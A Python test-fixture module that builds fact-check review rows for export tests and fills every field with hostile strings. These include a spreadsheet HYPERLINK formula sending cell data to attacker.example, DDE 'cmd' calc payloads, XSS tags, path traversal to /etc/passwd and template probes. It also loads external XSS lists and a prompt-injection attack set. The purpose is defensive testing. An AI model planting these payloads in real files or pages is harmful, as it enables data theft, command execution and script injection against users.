"""Rows for tests of exports: an item, its article, decisions, with texts that one asks for."""

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import msgspec

from summarizer.article import Article, normalise
from summarizer.export.rows import Row
from summarizer.flags import FlagCode, Severity
from summarizer.report import (
    Basis,
    Evidence,
    Finding,
    Flag,
    Span,
    Statement,
    StatementKind,
    Verdict,
)
from summarizer.review_items import (
    Decision,
    DecisionVerdict,
    ItemStatus,
    Priority,
    Provenance,
    ReviewItem,
    TruthRating,
    item_id,
)

CARRIER = (
    "The council met on Monday, the mayor said, and voted for the bridge. {} It was late when they left."
)

# Each begins a formula, a script, a terminal's command or the end of something, in its own way.
HOSTILE = {
    "formula": '=HYPERLINK("https://attacker.example/?"&A1,"the full story")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "small form": "﹢1",
    "after a blank": "  =1+1",
    "after no visible blank": "\u200b=1+1",
    "after a no-break blank": "\u00a0=1+1",
    "after a byte order mark": "\ufeff=1+1",
    "tab": "\t=1+1",
    "line end": "\r\n=1+1",
    "quote and separator": 'a","=1+1',
    "separator of other countries": "a;=1+1",
    "script": "</script><script>alert(1)</script>",
    "comment": "<!--<script>",
    "image": '"><img src=x onerror=alert(1)>',
    "terminal": "\x1b]0;title\x07\x9b31m red",
    "turned around": "\u202etxt.exe\u202c",
    "line separator": "one\u2028two\u2029three",
    "not in the first plane": "🎉🎉 𝒷ridge 🇺🇦",
    "marks": "Z̸͓̠a̶l̷g̵o̴",
    "null": "before\x00after",
    "template": "{{ 7*7 }} ${7*7} {% raw %}",
    "path": "../../../../etc/passwd",
}


def row(
    statement: str = "The bridge will cost $84 million.",
    *,
    kind: StatementKind = StatementKind.SUMMARY,
    speaker: str | None = None,
    inside: str = "It costs $48 million.",
    title: str | None = "A bridge for Lindholm",
    url: str | None = "https://daily.example/bridge",
    document: str | None = None,
    status: ItemStatus = ItemStatus.OPEN,
    decisions: Sequence[dict[str, Any]] = (),
    verdict: Verdict = Verdict.CONTRADICTED,
    risk: float | None = 0.9,
    flagged: bool = True,
) -> Row:
    """A row whose statement and evidence are marked from end to end; ``inside`` stands in the article."""
    statement = normalise(statement)
    article = Article.from_text(
        CARRIER.format(inside),
        title=title,
        url=url,
        document_id=document,
        published="2026-11-20",
        language="en",
    )
    start = article.text.index("the mayor said")
    piece = Evidence(1, start, start + 14, "the mayor said")
    flag = Flag(
        FlagCode.NUMBER_MISMATCH,
        Severity.HIGH,
        f"the article does not give {statement[:40]!r}",
        (Span(0, len(statement), statement),) if statement else (),
        (piece,),
    )
    finding = Finding(
        Statement("c1" if kind is StatementKind.CLAIM else "s1", kind, statement, speaker=speaker),
        verdict,
        Basis.RULE,
        risk,
        (piece,),
        flags=(flag,) if flagged else (),
        unchecked="nobody asked" if verdict is Verdict.UNCHECKED else None,
    )
    id_ = item_id(article.document_id, statement, [piece.quote])
    made = ReviewItem(
        id=id_,
        document_id=article.document_id,
        article_id=article.id,
        title=article.title,
        url=url,
        language="en",
        batch_id="b1",
        created="2026-11-21T08:00:00+00:00",
        statement_ids=(finding.statement.id,),
        finding=finding,
        priority=Priority(0.45, 1.0 if risk is None else risk, 0.5, 1.0),
        provenance=Provenance("r1", "gpt-x", "standard", ("0123456789abcdef",), "0.1.0", "7"),
        status=status,
    )
    return Row(made, article, tuple(decision(id_, **one) for one in decisions))


def decision(item: str, reviewer: str = "ada", **more: Any) -> Decision:
    made = Decision(
        id=f"d-{reviewer}-{item[:6]}",
        item_id=item,
        reviewer=reviewer,
        at="2026-11-23T08:30:00+00:00",
        verdict=DecisionVerdict.CONTRADICTED,
    )
    return msgspec.structs.replace(made, **more)


RATED = TruthRating("Half true", 3, 5, 1, "It does cost that, with interest.")


def hostile_row(text: str) -> Row:
    """The text in every place that somebody from outside writes."""
    text = normalise(text) or "empty"
    said = {"corrected_text": text, "note": text, "truth_rating": TruthRating(text, explanation=text)}
    return row(
        text,
        kind=StatementKind.CLAIM,
        speaker=text,
        inside=text,
        title=text,
        document=text,
        status=ItemStatus.DECIDED,
        decisions=[{"reviewer": text[:200], **said}],
    )


def shifted(one: Row, start: int) -> Row:
    """The row with its evidence at another place, where the article has other words."""
    piece = one.item.finding.evidence[0]
    moved = msgspec.structs.replace(piece, start=start, end=start + len(piece.quote))
    flags = tuple(msgspec.structs.replace(flag, evidence=()) for flag in one.item.finding.flags)
    finding = msgspec.structs.replace(one.item.finding, evidence=(moved,), flags=flags)
    return Row(msgspec.structs.replace(one.item, finding=finding), one.article, one.decisions)


def shared_strings(shared_data: Path) -> Iterator[str]:
    """Every hostile string that lies beside the project."""
    folder = shared_data / "hostile"
    yield from json.loads((folder / "blns.json").read_text(encoding="utf-8"))
    yield from (folder / "xss_intruders.txt").read_text(encoding="utf-8").splitlines()
    for lines in json.loads((folder / "bipia_text_attack_train.json").read_text(encoding="utf-8")).values():
        yield from lines
